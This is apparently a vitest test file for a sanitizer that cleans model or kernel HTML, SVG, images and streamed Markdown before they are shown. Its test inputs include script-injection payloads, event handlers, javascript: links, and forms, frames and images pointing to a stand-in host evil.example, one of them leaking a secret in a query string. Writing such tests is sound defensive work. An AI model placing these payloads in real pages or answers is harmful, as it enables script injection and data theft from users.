import { describe, expect, test } from "vitest";
import { StreamingMarkdown, renderMarkdown } from "../src/text/markdown";
import { imageAddress, safeHtml, svgAddress } from "../src/text/sanitize";

describe("HTML of a model or a kernel", () => {
  test.each([
    ["a script", "<p>a</p><script>alert(1)</script>", "<p>a</p>"],
    ["an event handler", '<p onclick="alert(1)">a</p>', "<p>a</p>"],
    ["a style sheet", "<style>.ak-btn{display:none}</style><p>a</p>", "<p>a</p>"],
    ["a style", '<p style="position:fixed;inset:0">a</p>', "<p>a</p>"],
    ["an id and a class", '<p id="x" class="ak-btn">a</p>', "<p>a</p>"],
    ["what tests and keys look for", '<div data-tool-call-id="t1" role="group" aria-label="x">a</div>', "<div>a</div>"],
    ["a form", '<form action="https://evil.example"><input name="a"><button>Approve</button></form>', "Approve"],
    ["a frame", '<iframe src="https://evil.example"></iframe>', ""],
    ["an address that is code", '<a href="javascript:alert(1)">a</a>', "<a>a</a>"],
    ["an image that would tell where it is shown", '<img src="https://evil.example/?q=secret" alt="chart">', "chart"],
    ["a drawing with code", '<svg onload="alert(1)"><script>1</script></svg>', ""],
  ])("loses %s", (_what, given, left) => {
    expect(safeHtml(given)).toBe(left);
  });

  test("opens links elsewhere, without a way back", () => {
    expect(safeHtml('<a href="https://example.com">a</a>')).toContain('rel="noopener noreferrer"');
  });
});

describe("images", () => {
  test("are shown from base64 only", () => {
    expect(imageAddress("image/png", "iVBORw0KGgo=\n")).toBe("data:image/png;base64,iVBORw0KGgo=");
    expect(imageAddress("image/png", '"><script>')).toBeNull();
    expect(imageAddress("image/svg+xml", "PHN2Zz4=")).toBeNull();
    expect(imageAddress("image/png", 5)).toBeNull();
  });

  test("a drawing loses its scripts, handlers and outside addresses, and keeps its shapes", () => {
    const address = svgAddress(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="a()"><script>a()</script>' +
        '<defs><path id="g" d="M0 0"/></defs><use xlink:href="#g"/><use xlink:href="https://evil.example#x"/><image href="https://evil.example/x.png"/>' +
        "<foreignObject><p>a</p></foreignObject><circle r='4'/></svg>",
    );
    const drawing = decodeURIComponent(address ?? "");
    expect(drawing).toMatch(/^data:image\/svg\+xml/);
    expect(drawing).toContain("<circle");
    expect(drawing).toContain("#g");
    expect(drawing).not.toMatch(/script|onload|evil|foreignObject/i);
  });
});

describe("an answer", () => {
  test("may be written in Markdown, with nothing that runs in it", () => {
    const html = renderMarkdown(
      "**a** <script>alert(1)</script> [b](javascript:alert(1)) ![c](https://evil.example/c.png)",
    );
    expect(html).toContain("<strong>a</strong>");
    expect(html).not.toMatch(/script|evil/);
  });

  test("keeps its finished blocks in the page while it streams", () => {
    const root = document.createElement("div");
    const stream = new StreamingMarkdown(root);
    const text =
      "# Title\n\nFirst paragraph with `code`.\n\n- one\n- two\n\n```python\nx = 1\n\ny = 2\n```\n\nThe end.";
    let first: Element | null = null;
    for (let length = 1; length <= text.length; length += 3) {
      stream.show(text.slice(0, length));
      first ??= length > 40 ? root.querySelector("h1") : null;
    }
    stream.show(text, true);
    expect(root.querySelector("h1")).toBe(first);
    const whole = document.createElement("div");
    whole.innerHTML = renderMarkdown(text);
    expect(root.innerHTML.replaceAll(/\n/g, "")).toBe(whole.innerHTML.replaceAll(/\n/g, ""));
  });
});
